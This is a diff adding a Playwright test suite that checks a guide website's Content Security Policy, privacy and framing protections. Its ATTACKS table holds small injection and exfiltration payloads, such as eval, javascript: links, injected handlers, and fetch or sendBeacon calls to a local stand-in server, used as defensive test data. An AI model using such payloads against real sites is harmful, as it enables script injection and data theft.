@@ -1,0 +1,324 @@
+"""What a browser keeps a page from: attacks that succeed once the guard is taken away."""
+
+import json
+import re
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from guide_engine.authoring.assemble import load_rulebook
+from tests.browser.conftest import ROOT
+from tests.browser.driver import Driver, search
+from tests.browser.serving import Folder, serving
+
+pytestmark = pytest.mark.browser
+
+RULES = load_rulebook(ROOT / "docs")
+LANGUAGES = RULES.edition.languages
+LANGUAGE = LANGUAGES[0]
+FIRST = next(iter(RULES.programmes.values()))
+LIKELY = next(each for each in FIRST.examples if each.outcome == "likely")
+HOME, WIZARD = f"{LANGUAGE}/index.html", f"{LANGUAGE}/wizard/index.html"
+WORKER = f"{LANGUAGE}/javascripts/worker.js"
+EVERYTHING = "* data: blob: 'unsafe-inline' 'unsafe-eval'"
+PATIENCE, PAUSE = 10_000, 100
+"""Milliseconds."""
+WATCH = """
+window.stopped = [];
+document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.blockedURI));
+const make = (name, has) => document.body.append(Object.assign(document.createElement(name), has));
+"""
+STORED = """async () => ({
+  local: { ...localStorage },
+  session: { ...sessionStorage },
+  cookie: document.cookie,
+  bases: await indexedDB.databases(),
+  caches: await caches.keys(),
+  name: window.name,
+  title: document.title,
+  address: location.href,
+})"""
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """What a script in the page tries: to reach ``other``, or to set ``window.ran``."""
+
+    name: str
+    directive: str
+    tries: str
+
+
+ATTACKS = (
+    Attack("inline-script", "script-src", 'make("script", { textContent: "window.ran = 1" })'),
+    Attack("foreign-script", "script-src", 'make("script", { src: other })'),
+    Attack("text-run-as-code", "script-src", 'eval("window.ran = 1")'),
+    Attack("function-of-text", "script-src", 'new Function("window.ran = 1")()'),
+    Attack(
+        "handler-in-markup",
+        "script-src",
+        """make("p", { innerHTML: "<b onclick='window.ran = 1'>" });
+        document.body.lastChild.firstChild.click()""",
+    ),
+    Attack(
+        "link-to-code",
+        "script-src",
+        'make("a", { href: "javascript:void(window.ran = 1)" }); document.body.lastChild.click()',
+    ),
+    Attack("foreign-style", "style-src", 'make("link", { rel: "stylesheet", href: other })'),
+    Attack(
+        "inline-style",
+        "style-src",
+        """make("style", { textContent: "body { --ran: 1 }" });
+        window.ran = getComputedStyle(document.body).getPropertyValue("--ran")""",
+    ),
+    Attack(
+        "style-in-markup",
+        "style-src",
+        """make("p", { innerHTML: "<b style='--ran: 1'>" });
+        window.ran = document.body.lastChild.firstChild.style.getPropertyValue("--ran")""",
+    ),
+    Attack("foreign-image", "img-src", 'make("img", { src: other })'),
+    Attack("fetch", "connect-src", 'fetch(other, { mode: "no-cors" }).catch(() => {})'),
+    Attack(
+        "request",
+        "connect-src",
+        'const asks = new XMLHttpRequest(); asks.open("GET", other); asks.send()',
+    ),
+    Attack("socket", "connect-src", 'new WebSocket(other.replace("http", "ws"))'),
+    Attack("stream", "connect-src", "new EventSource(other)"),
+    Attack("beacon", "connect-src", 'navigator.sendBeacon(other, "answers")'),
+    Attack(
+        "ping",
+        "connect-src",
+        'make("a", { href: "#", ping: other }); document.body.lastChild.click()',
+    ),
+    Attack(
+        "worker-of-text",
+        "worker-src",
+        "new Worker('data:text/javascript,postMessage(1)').onmessage = () => (window.ran = 1)",
+    ),
+    Attack(
+        "worker-that-sends",
+        "connect-src",
+        """const sends = `fetch("${other}", { mode: "no-cors" }).catch(() => postMessage("no"))`;
+        const text = new Blob([sends], { type: "text/javascript" });
+        new Worker(URL.createObjectURL(text)).onmessage = ({ data }) => stopped.push(data)""",
+    ),
+    Attack(
+        "form", "form-action", 'make("form", { action: other }); document.body.lastChild.submit()'
+    ),
+    Attack(
+        "posted-form",
+        "form-action",
+        'make("form", { action: other, method: "post" }); document.body.lastChild.submit()',
+    ),
+    Attack(
+        "base",
+        "base-uri",
+        'make("base", { href: other }); window.ran = document.baseURI.startsWith(other)',
+    ),
+    Attack("frame", "default-src", 'make("iframe", { src: other })'),
+    Attack("object", "default-src", 'make("object", { data: other })'),
+    Attack("embedded", "default-src", 'make("embed", { src: other })'),
+    Attack("sound", "default-src", 'make("audio", { src: other, preload: "auto" })'),
+    Attack("font", "default-src", "new FontFace('x', `url(${other})`).load().catch(() => {})"),
+    Attack("prefetched", "default-src", 'make("link", { rel: "prefetch", href: other })'),
+)
+
+
+@pytest.fixture
+def window(browser: Browser) -> Iterator[Page]:
+    """Open a window in a fresh profile."""
+    context = browser.new_context(locale="en-GB", timezone_id="UTC")
+    yield context.new_page()
+    context.close()
+
+
+@pytest.fixture
+def other() -> Iterator[Folder]:
+    """Serve nothing at another address, and keep what is asked of it."""
+    with serving({}) as folder:
+        yield folder
+
+
+@pytest.fixture(scope="session")
+def headers(site: Mapping[str, bytes]) -> Mapping[str, str]:
+    """Read the headers that the build tells hosts to send."""
+    _, *lines = site["_headers"].decode().splitlines()
+    return {name.strip(): says for name, _, says in (line.partition(": ") for line in lines)}
+
+
+@pytest.fixture(scope="session")
+def hosted(site: dict[str, bytes], headers: Mapping[str, str]) -> Iterator[Folder]:
+    """Serve the site as a host that sends the headers does."""
+    with serving(site, headers) as folder:
+        yield folder
+
+
+def without(policy: str, directive: str) -> str:
+    """Take a directive out of a page's policy; none falls back to another that forbids the same.
+
+    >>> without("default-src 'none'; img-src 'self'", "img-src")
+    "default-src 'none'; img-src * data: blob: 'unsafe-inline' 'unsafe-eval'"
+    """
+    if directive in ("base-uri", "form-action", "frame-ancestors"):
+        return re.sub(rf"; {directive} [^;\"]*", "", policy)
+    return re.sub(rf"\b{directive} [^;\"]*", f"{directive} {EVERYTHING}", policy)
+
+
+def attacked(site: Mapping[str, bytes], attack: Attack, address: str) -> dict[str, bytes]:
+    """Put a script that attacks into the guide's first page, as a file of the guide's own."""
+    tries = f"window.attack = () => {{ try {{ {attack.tries} }} catch {{}} }}"
+    script = f'const other = "{address}x";\n{WATCH}\n{tries}\n'
+    page = site[HOME].replace(b"</body>", b'<script src="/attack.js"></script></body>')
+    return {**site, "attack.js": script.encode(), HOME: page}
+
+
+def reaches(page: Page, other: Folder) -> bool:
+    """Start the attack; tell whether it did what it tried, once it did or was stopped."""
+    # Run from a timer, it is the page's own doing, and not that of whoever drives the browser.
+    page.evaluate("void setTimeout(attack)")
+    for _ in range(PATIENCE // PAUSE):
+        page.wait_for_timeout(PAUSE)
+        if other.asked:
+            return True
+        # Whatever was sent although it was stopped has come by the second look.
+        stopped, ran = page.evaluate("[!!window.stopped?.length, !!window.ran]")
+        if stopped or ran:
+            page.wait_for_timeout(PAUSE)
+            return bool(other.asked) or ran
+    raise AssertionError("the attack was neither stopped nor did it succeed")
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
+def test_an_attack_is_stopped_by_its_directive(
+    window: Page, site: dict[str, bytes], other: Folder, attack: Attack
+) -> None:
+    """By that one: with it taken out of the page, the same attack succeeds."""
+    files = attacked(site, attack, other.address)
+    open_to = without(files[HOME].decode(), attack.directive).encode()
+    assert open_to != files[HOME]
+    for page, succeeds in ((files[HOME], False), (open_to, True)):
+        with serving({**files, HOME: page}) as folder:
+            window.goto(f"{folder.address}{LANGUAGE}/")
+            assert reaches(window, other) is succeeds
+
+
+@pytest.mark.parametrize(("sent", "shown"), [(True, False), (False, True)])
+def test_no_other_site_frames_a_page(
+    window: Page, site: dict[str, bytes], headers: Mapping[str, str], *, sent: bool, shown: bool
+) -> None:
+    """Where the host sends the headers; a page cannot say it itself."""
+    with serving(site, headers if sent else {}) as folder:
+        frame = f'<iframe src="{folder.address}{LANGUAGE}/"></iframe>'.encode()
+        with serving({"index.html": frame}) as framing:
+            window.goto(framing.address)
+            framed = window.frames[1].locator(".md-header").count() > 0
+    assert framed is shown
+
+
+@pytest.mark.parametrize(("guarded", "reached"), [(True, False), (False, True)])
+def test_the_page_binds_its_worker(
+    window: Page, site: dict[str, bytes], other: Folder, *, guarded: bool, reached: bool
+) -> None:
+    """Whatever the host sends: the worker is the page's own, and has the page's policy."""
+    attack = f'fetch("{other.address}", {{ mode: "no-cors" }}).catch(() => {{}});\n'.encode()
+    page = site[WIZARD] if guarded else without(site[WIZARD].decode(), "connect-src").encode()
+    with serving({**site, WORKER: attack + site[WORKER], WIZARD: page}) as folder:
+        # What follows in the worker's script asks for the engine, whatever becomes of the attack.
+        with window.expect_response("**/engine/rulebook.json"):
+            window.goto(f"{folder.address}{LANGUAGE}/wizard/")
+        window.wait_for_timeout(PAUSE)
+    assert bool(other.asked) is reached
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_no_page_asks_anything_of_another_host(
+    window: Page, hosted: Folder, site: dict[str, bytes], language: str
+) -> None:
+    """Nor does its policy stop anything that it needs."""
+    foreign: list[str] = []
+    said: list[str] = []
+
+    def keep(url: str) -> None:
+        if not url.startswith((hosted.address, f"blob:{hosted.address}", "data:")):
+            foreign.append(f"{window.url}: {url}")
+
+    window.on("request", lambda request: keep(request.url))
+    window.on("console", lambda message: said.append(f"{window.url}: {message.text}"))
+    for path in (path for path in sorted(site) if path.startswith(f"{language}/")):
+        if path.endswith("/index.html"):
+            window.goto(f"{hosted.address}{path.removesuffix('index.html')}")
+    assert foreign == []
+    assert said == []
+
+
+def test_the_search_works_under_the_policy(window: Page, hosted: Folder) -> None:
+    """Its worker is the theme's own."""
+    window.goto(f"{hosted.address}{LANGUAGE}/")
+    assert search(window, FIRST.id).startswith(hosted.address)
+
+
+def answered(page: Page, hosted: Folder) -> Driver:
+    """Open the wizard, and answer as the first programme's likely example does."""
+    driver = Driver(page)
+    driver.open(f"{hosted.address}{LANGUAGE}/")
+    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
+    driver.answer(LIKELY.answers)
+    assert driver.outcome(FIRST.id) == ("likely", None)
+    return driver
+
+
+def test_a_journey_sends_nothing(window: Page, hosted: Folder) -> None:
+    """Once the engine is there, not even to the guide's own host; the form leads nowhere."""
+    requests: list[str] = []
+    Driver(window).open(f"{hosted.address}{LANGUAGE}/")
+    window.on("request", lambda request: requests.append(request.url))
+    driver = Driver(window)
+    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
+    driver.answer(LIKELY.answers)
+    assert driver.outcome(FIRST.id) == ("likely", None)
+    assert requests == []
+
+
+def test_answers_are_in_no_address_and_in_no_store(window: Page, hosted: Folder) -> None:
+    """Address, title, history, storage and cookies are after the journey as they were before."""
+    driver = Driver(window)
+    driver.open(f"{hosted.address}{LANGUAGE}/")
+    before = window.evaluate(STORED)
+    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
+    states: list[Any] = []
+    while not driver.result.is_visible():
+        driver.answer_one(LIKELY.answers)
+        states.append(window.evaluate("history.state"))
+    assert window.evaluate(STORED) == before
+    assert [json.dumps(each) for each in states] == [
+        f'{{"place": {place}}}' for place in range(2, len(states) + 2)
+    ]
+
+
+def test_loading_the_page_again_forgets_the_answers(window: Page, hosted: Folder) -> None:
+    """No answer stands in the summary, and no field is filled in."""
+    answered(window, hosted)
+    window.reload()
+    Driver(window).wait_for("ready")
+    expect(window.locator("[data-wizard=answers] > div")).to_have_count(0)
+    expect(window.locator("[data-question] input:checked")).to_have_count(0)
+    typed = "all => all.filter((field) => field.value !== '').length"
+    assert window.locator("[data-question] [data-field]").evaluate_all(typed) == 0
+
+
+def test_a_link_does_not_tell_where_the_reader_came_from(
+    window: Page, site: dict[str, bytes]
+) -> None:
+    """Whether or not the host sends headers."""
+    with serving({"index.html": b"<title>Law</title>"}) as law, serving(site) as folder:
+        window.goto(f"{folder.address}{LANGUAGE}/")
+        link = "to => { const a = document.createElement('a'); a.href = to; document.body.append(a)"
+        window.evaluate(f"{link}; a.click() }}", law.address)
+        expect(window).to_have_title("Law")
+        assert window.evaluate("document.referrer") == ""
